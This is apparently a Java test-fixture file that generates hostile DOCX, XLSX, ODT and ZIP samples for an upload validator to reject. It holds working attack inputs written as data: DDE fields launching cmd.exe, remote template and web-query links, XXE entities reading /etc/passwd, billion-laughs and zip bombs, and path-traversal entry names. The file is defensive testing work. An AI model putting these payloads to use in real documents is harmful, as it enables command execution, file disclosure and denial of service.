package vn.dunghen.document.intake;

import static vn.dunghen.document.intake.Hostile.ascii;
import static vn.dunghen.document.intake.Hostile.join;
import static vn.dunghen.document.intake.Hostile.with;
import static vn.dunghen.document.intake.Hostile.zip;
import static vn.dunghen.document.intake.Sample.refused;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** Office files and other zips that act, fetch, swell or lie. */
final class HostilePackages {

    private static final String TYPES = "[Content_Types].xml";
    private static final String MACROS = "macro hoặc đối tượng nhúng";
    private static final String OUTSIDE = "liên kết ngoài";
    private static final String BOMB = "giải nén ra quá lớn";
    private static final String XML = "khai báo XML lạ";

    private final byte[] docx = Honest.docx();
    private final byte[] xlsx = Honest.xlsx();
    private final byte[] odt = Honest.odt();
    private final List<Sample> all = new ArrayList<>();

    static List<Sample> all(String virus) {
        var made = new HostilePackages();
        made.macros();
        made.outside();
        made.entities();
        made.bombs();
        made.lies();
        made.add("DOCX: known virus in a picture", "docx", with(made.docx, "word/media/image1.png", virus), "mã độc");
        made.add(
                "DOCX: known virus in its text",
                "docx",
                with(made.docx, "word/comments.xml", "<a>" + virus + "</a>"),
                "mã độc");
        made.add("ZIP: known virus", "zip", zip("a.com", virus), "mã độc");
        return made.all;
    }

    private void add(String about, String ending, byte[] content, String expected) {
        all.add(refused(about, "a." + ending, content, expected));
    }

    private void macros() {
        add("DOCX: macro project", "docx", with(docx, "word/vbaProject.bin", "x"), MACROS);
        add(
                "DOCX: macro project under another name",
                "docx",
                with(docx, "word/media/image9.png", ascii("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1")),
                MACROS);
        add(
                "DOCM called DOCX",
                "docx",
                with(
                        docx,
                        TYPES,
                        "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
                MACROS);
        add(
                "DOCX: macro type in two-byte letters",
                "docx",
                with(docx, TYPES, "\ufeff<Types a=\"macroEnabled\"/>".getBytes(StandardCharsets.UTF_16LE)),
                MACROS);
        add(
                "DOCX: macro type written in numbers",
                "docx",
                with(docx, TYPES, "<Types a=\"macro&#69;nabled\"/>"),
                MACROS);
        add(
                "DOCX: macro project by relation only",
                "docx",
                with(
                        docx,
                        "word/_rels/document.xml.rels",
                        relation(
                                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                "a.bin",
                                "Internal")),
                MACROS);
        add("DOCX: ActiveX control", "docx", with(docx, "word/activeX/activeX1.xml", "<a/>"), MACROS);
        add("DOCX: embedded object", "docx", with(docx, "word/embeddings/oleObject1.bin", "x"), MACROS);
        add("DOCX: embedded package", "docx", with(docx, "word/embeddings/Sheet.xlsx", xlsx), MACROS);
        add(
                "DOCX: object by relation only",
                "docx",
                with(
                        docx,
                        "word/_rels/document.xml.rels",
                        relation(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject",
                                "media/a.wmf",
                                "Internal")),
                MACROS);
        add(
                "DOCX: page to be read in",
                "docx",
                with(
                        docx,
                        "word/_rels/document.xml.rels",
                        relation(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk",
                                "a.html",
                                "Internal")),
                MACROS);
        add("DOCX: program among the pictures", "docx", with(docx, "word/media/image1.png", "MZ\220"), MACROS);
        add("DOCX: script among the pictures", "docx", with(docx, "word/media/image1.png", "#!/bin/sh"), MACROS);
        add("DOCX: zip among the pictures", "docx", with(docx, "word/media/image1.png", zip("a", "b")), MACROS);
        add("DOCX: RTF among the parts", "docx", with(docx, "word/a.dat", "{\\rtf1 a}"), MACROS);
        add("XLSX: macro project", "xlsx", with(xlsx, "xl/vbaProject.bin", "x"), MACROS);
        add("XLSX: old macro sheet", "xlsx", with(xlsx, "xl/macrosheets/sheet1.xml", "<a/>"), MACROS);
        add(
                "XLSX: old macro sheet by relation only",
                "xlsx",
                with(
                        xlsx,
                        "xl/_rels/workbook.xml.rels",
                        relation(
                                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                                "worksheets/a.xml",
                                "Internal")),
                MACROS);
        add(
                "XLSX: name that starts a macro",
                "xlsx",
                with(
                        xlsx,
                        "xl/workbook.xml",
                        "<workbook><definedNames><definedName name=\"_xlnm.Auto_Open\">A1</definedName></definedNames></workbook>"),
                MACROS);
        add("XLSX: control of a form", "xlsx", with(xlsx, "xl/ctrlProps/ctrlProp1.xml", "<a/>"), MACROS);
        add("ODT: Basic library", "odt", with(odt, "Basic/Standard/Module1.xml", "<a/>"), MACROS);
        add("ODT: Python script", "odt", with(odt, "Scripts/python/a.py", "import os"), MACROS);
        add(
                "ODT: script on opening",
                "odt",
                with(
                        odt,
                        "content.xml",
                        "<office:document-content><office:event-listeners><script:event-listener xlink:href=\"vnd.sun.star.script:a\"/></office:event-listeners></office:document-content>"),
                MACROS);
        add("ODT: embedded object", "odt", with(odt, "Object 1/content.xml", "<a/>"), MACROS);
    }

    private void outside() {
        String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        add(
                "DOCX: template from the net",
                "docx",
                with(
                        docx,
                        "word/_rels/settings.xml.rels",
                        relation(office + "attachedTemplate", "http://example.invalid/a.dotm", "External")),
                OUTSIDE);
        add(
                "DOCX: template from a neighbour",
                "docx",
                with(
                        docx,
                        "word/_rels/settings.xml.rels",
                        relation(office + "attachedTemplate", "file://///host/a.dotm", "External")),
                OUTSIDE);
        add(
                "DOCX: template, target written in numbers",
                "docx",
                with(
                        docx,
                        "word/_rels/settings.xml.rels",
                        relation(office + "attachedTemplate", "http://example.invalid/a.dotm", "Extern&#97;l")),
                MACROS);
        add(
                "DOCX: template, in two-byte letters",
                "docx",
                with(
                        docx,
                        "word/_rels/settings.xml.rels",
                        ("\ufeff" + relation(office + "attachedTemplate", "http://example.invalid/a.dotm", "External"))
                                .getBytes(StandardCharsets.UTF_16LE)),
                OUTSIDE);
        add(
                "DOCX: picture from the net",
                "docx",
                with(
                        docx,
                        "word/_rels/document.xml.rels",
                        relation(office + "image", "http://example.invalid/a.png", "External")),
                OUTSIDE);
        add(
                "DOCX: object from the net",
                "docx",
                with(
                        docx,
                        "word/_rels/document.xml.rels",
                        relation(office + "oleObject", "mhtml:http://example.invalid/a", "External")),
                MACROS);
        add(
                "DOCX: DDE",
                "docx",
                with(docx, "word/document.xml", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")),
                OUTSIDE);
        add("DOCX: DDE in pieces", "docx", with(docx, "word/document.xml", field("DD") + field("EAUTO cmd")), OUTSIDE);
        add(
                "DOCX: DDE in a simple field",
                "docx",
                with(docx, "word/document.xml", "<w:document><w:fldSimple w:instr=\" DDE excel a\"/></w:document>"),
                OUTSIDE);
        add(
                "DOCX: text from elsewhere",
                "docx",
                with(docx, "word/document.xml", field(" INCLUDETEXT \"http://example.invalid/a\"")),
                OUTSIDE);
        add(
                "XLSX: DDE in a formula",
                "xlsx",
                with(xlsx, "xl/worksheets/sheet1.xml", "<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>"),
                OUTSIDE);
        add("XLSX: outside book", "xlsx", with(xlsx, "xl/externalLinks/externalLink1.xml", "<a/>"), MACROS);
        add("XLSX: DDE link", "xlsx", with(xlsx, "xl/a.xml", "<x><ddeLink ddeService=\"cmd\"/></x>"), OUTSIDE);
        add(
                "XLSX: data from the net",
                "xlsx",
                with(xlsx, "xl/_rels/a.rels", relation(office + "webQuery", "http://example.invalid", "External")),
                OUTSIDE);
        add(
                "ODT: picture from the net",
                "odt",
                with(
                        odt,
                        "content.xml",
                        "<d><draw:image xlink:href=\"http://example.invalid/a.png\" xlink:actuate=\"onLoad\"/></d>"),
                OUTSIDE);
        add(
                "ODT: section from a file",
                "odt",
                with(odt, "content.xml", "<d><text:section-source xlink:href=\"file:///etc/passwd\"/></d>"),
                OUTSIDE);
        add("ODT: DDE", "odt", with(odt, "content.xml", "<d><text:dde-connection/></d>"), OUTSIDE);
    }

    private void entities() {
        String file = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
        String far = "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://example.invalid/a.dtd\"><a/>";
        String parameter = "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://example.invalid/a\"> %b;]><a/>";
        add("DOCX: outside entity in its text", "docx", with(docx, "word/document.xml", file), XML);
        add("DOCX: outside entity in a relation", "docx", with(docx, "_rels/.rels", file), XML);
        add("DOCX: outside entity in its properties", "docx", with(docx, "docProps/core.xml", far), XML);
        add("DOCX: outside entity in its types", "docx", with(docx, TYPES, parameter), XML);
        add("DOCX: outside entity in a part of no ending", "docx", with(docx, "word/custom", file), XML);
        add(
                "DOCX: entity behind a long remark",
                "docx",
                with(docx, "word/document.xml", "<!--" + "x".repeat(300_000) + "-->" + file.substring(21)),
                XML);
        add(
                "DOCX: entity in two-byte letters",
                "docx",
                with(docx, "word/document.xml", ("\ufeff" + file).getBytes(StandardCharsets.UTF_16BE)),
                XML);
        add(
                "DOCX: entity in four-byte letters",
                "docx",
                with(docx, "word/document.xml", file.getBytes(java.nio.charset.Charset.forName("UTF-32LE"))),
                XML);
        add(
                "DOCX: letters of a mainframe",
                "docx",
                with(docx, "word/document.xml", file.getBytes(java.nio.charset.Charset.forName("IBM037"))),
                "hỏng");
        add(
                "DOCX: seven-bit letters",
                "docx",
                with(docx, "word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE"),
                XML);
        add("DOCX: thousand laughs", "docx", with(docx, "word/document.xml", HostileNames.laughs()), XML);
        add(
                "DOCX: one entity a million times",
                "docx",
                with(
                        docx,
                        "word/document.xml",
                        "<!DOCTYPE a [<!ENTITY b \"" + "b".repeat(50_000) + "\">]><a>" + "&b;".repeat(50_000) + "</a>"),
                XML);
        add("XLSX: outside entity in a sheet", "xlsx", with(xlsx, "xl/worksheets/sheet1.xml", file), XML);
        add("XLSX: parameter entity in the texts", "xlsx", with(xlsx, "xl/sharedStrings.xml", parameter), XML);
        add("XLSX: thousand laughs", "xlsx", with(xlsx, "xl/workbook.xml", HostileNames.laughs()), XML);
        add("ODT: outside entity in its text", "odt", with(odt, "content.xml", file), XML);
        add("ODT: outside entity in its styles", "odt", with(odt, "styles.xml", far), XML);
        add("ODT: outside entity in its list", "odt", with(odt, "META-INF/manifest.xml", far), XML);
    }

    private void bombs() {
        byte[] zeros = new byte[110_000_000];
        byte[] spaces = new byte[60_000_000];
        Arrays.fill(spaces, (byte) ' ');
        spaces[0] = '<';
        add("DOCX: part of 110 megabytes", "docx", with(docx, "word/media/a.bin", zeros), BOMB);
        add("DOCX: text of 60 megabytes", "docx", with(docx, "word/document.xml", spaces), BOMB);
        add("ZIP: flat bomb", "zip", zip("a", zeros), BOMB);
        byte[] inner = zip("a", new byte[10_000_000]);
        add("ZIP: zips in zips", "zip", zip("1.zip", zip("a.zip", inner, "b.zip", inner), "2.zip", inner), MACROS);
        add("ZIP: overlapping entries", "docx", overlapping(), BOMB);
        add("ZIP: that holds itself", "zip", quine(), MACROS);
        Object[] swarm = new Object[2 * 2_500];
        for (int i = 0; i < 2_500; i++) {
            swarm[2 * i] = "word/" + i + ".xml";
            swarm[2 * i + 1] = "<a/>";
        }
        add("DOCX: thousands of parts", "docx", with(docx, swarm), BOMB);
        add("DOCX: counted list larger than the file", "docx", patched(docx, 10, 60_000), BOMB);
    }

    private void lies() {
        add("ZIP: no Office file", "docx", zip("a.txt", "a"), "không phải PDF");
        add("ZIP: Java archive", "docx", zip("META-INF/MANIFEST.MF", "a", "A.class", "\u00ca"), "không phải PDF");
        for (String name : List.of(
                "../../etc/passwd",
                "/etc/passwd",
                "..\\a",
                "C:/a",
                "word/../../a",
                "word/nul.xml",
                "word/CON",
                "a\u202Eb",
                "a\nb",
                "./a")) {
            add("DOCX: entry " + name.replace("\n", "⏎"), "docx", with(docx, name, "a"), "tên tệp lạ");
        }
        add("DOCX: one name in two sizes of letters", "docx", with(docx, "WORD/document.xml", "<a/>"), "tên tệp lạ");
        add(
                "DOCX: one name twice",
                "docx",
                Hostile.renamed(with(docx, "word/documenu.xml", "<a/>"), "word/documenu.xml", "word/document.xml"),
                "tên tệp lạ");
        add("DOCX: other names in the two lists", "docx", lastRenamed(docx), "bên trong");
        add("DOCX: program before it", "docx", join(ascii("MZ"), docx), "không phải PDF");
        add("DOCX: another zip before it", "docx", join(zip("a", "b"), docx), "hỏng");
        add("DOCX: bytes behind it", "docx", join(docx, ascii("MZ program")), "hỏng");
        add("DOCX: cut short", "docx", Arrays.copyOf(docx, docx.length / 2), "hỏng");
        add("DOCX: without its list", "docx", Arrays.copyOf(docx, docx.length - 22), "hỏng");
        add("XLSX: cut short", "xlsx", Arrays.copyOf(xlsx, xlsx.length - 100), "hỏng");
        add("ODT: cut short", "odt", Arrays.copyOf(odt, odt.length / 3), "hỏng");
        add("DOCX: locked entries", "docx", lockedFlags(docx), "mật khẩu");
        add(
                "ODT: locked",
                "odt",
                with(
                        odt,
                        "META-INF/manifest.xml",
                        "<manifest:manifest><manifest:encryption-data/></manifest:manifest>"),
                "mật khẩu");
        add("DOCX called PDF", "pdf", docx, "đuôi .pdf");
        add("XLSX called DOCX", "docx", xlsx, "đuôi .docx");
        add("ZIP: first bytes only", "docx", ascii("PK\3\4"), "hỏng");
    }

    private static String relation(String type, String target, String mode) {
        return "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r9\" Type=\"" + type + "\" Target=\"" + target
                + "\" TargetMode=\"" + mode + "\"/></Relationships>";
    }

    private static String field(String instruction) {
        return "<w:document><w:r><w:instrText>" + instruction + "</w:instrText></w:r></w:document>";
    }

    /** Two hundred entries of the list point at the same packed bytes. */
    private static byte[] overlapping() {
        byte[] one = zip("a.xml", "<a>" + " ".repeat(1_000_000) + "</a>");
        int list = ByteBuffer.wrap(one).order(ByteOrder.LITTLE_ENDIAN).getInt(one.length - 6);
        byte[] entry = Arrays.copyOfRange(one, list, one.length - 22);
        byte[] end = Arrays.copyOfRange(one, one.length - 22, one.length);
        byte[][] entries = new byte[200][];
        Arrays.fill(entries, entry);
        ByteBuffer.wrap(end)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putShort(8, (short) 200)
                .putShort(10, (short) 200)
                .putInt(12, 200 * entry.length);
        return join(Arrays.copyOf(one, list), join(entries), end);
    }

    /** A real one needs a packing that unpacks to itself; for us it is enough that a zip lies in a zip in a zip. */
    private static byte[] quine() {
        byte[] self = zip("r.zip", "x");
        for (int i = 0; i < 8; i++) {
            self = zip("r.zip", self);
        }
        return self;
    }

    private static byte[] patched(byte[] file, int at, int count) {
        byte[] copy = file.clone();
        ByteBuffer.wrap(copy).order(ByteOrder.LITTLE_ENDIAN).putShort(copy.length - 22 + at, (short) count);
        return copy;
    }

    /** The list at the end shows another name than the entry has. */
    private static byte[] lastRenamed(byte[] file) {
        String text = new String(file, StandardCharsets.ISO_8859_1);
        int last = text.lastIndexOf("word/document.xml");
        return ascii(text.substring(0, last) + "word/documenx.xml" + text.substring(last + 17));
    }

    private static byte[] lockedFlags(byte[] file) {
        byte[] copy = file.clone();
        for (int at = 0; at + 4 < copy.length; at++) {
            if (copy[at] == 'P' && copy[at + 1] == 'K' && copy[at + 2] == 1 && copy[at + 3] == 2) {
                copy[at + 8] |= 1;
            }
        }
        return copy;
    }
}
